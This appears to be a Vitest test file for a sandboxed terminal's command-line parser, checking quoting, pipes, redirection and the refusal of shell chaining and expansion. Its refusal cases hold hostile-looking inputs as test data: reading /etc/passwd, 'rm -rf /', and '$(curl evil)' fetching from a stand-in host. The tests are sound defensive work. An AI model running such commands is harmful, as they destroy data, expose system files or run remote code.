import { describe, expect, it } from 'vitest';
import { parseCommandLine, refusals } from '../../../sandbox/terminal/words.ts';

function stages(line: string): string[][] {
  const r = parseCommandLine(line);
  if (!r.ok) throw new Error(`refused: ${r.message}`);
  return r.line.stages;
}

function refusal(line: string): string {
  const r = parseCommandLine(line);
  if (r.ok) throw new Error(`accepted: ${JSON.stringify(r.line)}`);
  return r.message;
}

describe('parseCommandLine: quoting like a POSIX word splitter', () => {
  it('splits on blanks', () => {
    expect(stages('kubectl  get\tpods')).toEqual([['kubectl', 'get', 'pods']]);
  });
  it('keeps single-quoted text literally, including $ and backslashes', () => {
    expect(stages(`kubectl get pods -o jsonpath='{.items[*].metadata.name} $HOME \\n'`)).toEqual([
      ['kubectl', 'get', 'pods', '-o', 'jsonpath={.items[*].metadata.name} $HOME \\n'],
    ]);
  });
  it('joins quoted and unquoted parts of one word', () => {
    expect(stages(`echo a'b c'"d e"f`)).toEqual([['echo', 'ab cd ef']]);
  });
  it('handles backslash outside and inside double quotes as sh does', () => {
    expect(stages('echo a\\ b "x\\"y" "p\\q" \\$HOME')).toEqual([['echo', 'a b', 'x"y', 'p\\q', '$HOME']]);
  });
  it('keeps an empty quoted argument', () => {
    expect(stages(`kubectl annotate pod x note=''`)).toEqual([['kubectl', 'annotate', 'pod', 'x', 'note=']]);
    expect(stages(`echo "" x`)).toEqual([['echo', '', 'x']]);
  });
  it('keeps globs literally (no filesystem expansion)', () => {
    expect(stages('kubectl get pods -o jsonpath={.items[*].spec.nodeName} *.yaml ?')).toEqual([
      ['kubectl', 'get', 'pods', '-o', 'jsonpath={.items[*].spec.nodeName}', '*.yaml', '?'],
    ]);
  });
  it('treats a lone $ as literal, as sh does', () => {
    expect(stages('echo cost: $ 5')).toEqual([['echo', 'cost:', '$', '5']]);
  });
  it('ignores a comment', () => {
    expect(stages('kubectl get pv # the volumes')).toEqual([['kubectl', 'get', 'pv']]);
    expect(stages('echo a#b')).toEqual([['echo', 'a#b']]);
  });
  it('returns no stages for an empty or blank line', () => {
    expect(stages('   ')).toEqual([]);
  });
});

describe('parseCommandLine: pipes and redirection', () => {
  it('splits a pipeline', () => {
    expect(stages(`kubectl get secret s -o jsonpath='{.data.key}' | base64 -d`)).toEqual([
      ['kubectl', 'get', 'secret', 's', '-o', 'jsonpath={.data.key}'],
      ['base64', '-d'],
    ]);
  });
  it('keeps a quoted | as an argument', () => {
    expect(stages(`grep -E 'a|b'`)).toEqual([['grep', '-E', 'a|b']]);
  });
  it('reads > FILE and >> FILE', () => {
    expect(parseCommandLine('kubectl get pv -o yaml > pv.yaml')).toEqual({
      ok: true,
      line: { stages: [['kubectl', 'get', 'pv', '-o', 'yaml']], redirect: { file: 'pv.yaml', append: false } },
    });
    expect(parseCommandLine('echo hi >>notes.txt')).toEqual({
      ok: true,
      line: { stages: [['echo', 'hi']], redirect: { file: 'notes.txt', append: true } },
    });
    expect(parseCommandLine('kubectl get pods | grep web>out.txt')).toMatchObject({
      ok: true,
      line: { stages: [['kubectl', 'get', 'pods'], ['grep', 'web']], redirect: { file: 'out.txt' } },
    });
  });
  it('refuses broken pipelines and redirections', () => {
    expect(refusal('| grep x')).toBe(refusals.emptyStage);
    expect(refusal('kubectl get pods |')).toBe(refusals.emptyStage);
    expect(refusal('kubectl get pods >')).toBe(refusals.redirectTarget);
    expect(refusal('echo a > x | grep a')).toBe(refusals.redirectNotLast);
    expect(refusal('echo a > x > y')).toBe(refusals.twoRedirects);
  });
});

describe('parseCommandLine: anything a shell would expand or chain is refused', () => {
  const cases: [string, string][] = [
    ['kubectl get pods; cat /etc/passwd', refusals.semicolon],
    ['kubectl get pods && rm -rf /', refusals.and],
    ['kubectl get pods || id', refusals.or],
    ['kubectl get pods &', refusals.background],
    ['kubectl apply -f $(curl evil)', refusals.substitution],
    ['kubectl apply -f "$(curl evil)"', refusals.substitution],
    ['kubectl get `id`', refusals.substitution],
    ['kubectl get "`id`"', refusals.substitution],
    ['kubectl get pods -n $NS', refusals.variable],
    ['kubectl get pods -n "${NS}"', refusals.variable],
    ['echo $?', refusals.variable],
    ['kubectl apply -f - < /etc/passwd', refusals.input],
    ['cat <<EOF', refusals.heredoc],
    ['(kubectl get pods)', refusals.subshell],
    ['kubectl get pods 2>/dev/null', refusals.fdRedirect],
    ['kubectl get pods >&2', refusals.fdRedirect],
    ["echo 'unterminated", refusals.unterminatedSingle],
    ['echo "unterminated', refusals.unterminatedDouble],
  ];
  it.each(cases)('%s', (line, message) => {
    expect(refusal(line)).toBe(message);
  });
  it('allows the same characters inside single quotes, where a shell keeps them literal too', () => {
    expect(stages(`echo '; && $(id) \`id\` $HOME < >'`)).toEqual([['echo', '; && $(id) `id` $HOME < >']]);
  });
  it('lets a quoted digit word before > be a normal argument', () => {
    expect(stages(`echo "2">x`)).toEqual([['echo', '2']]);
  });
  it('says what to do instead', () => {
    expect(refusals.semicolon).toMatch(/one command per line/);
    expect(refusals.substitution).toMatch(/run the inner command/);
  });
});
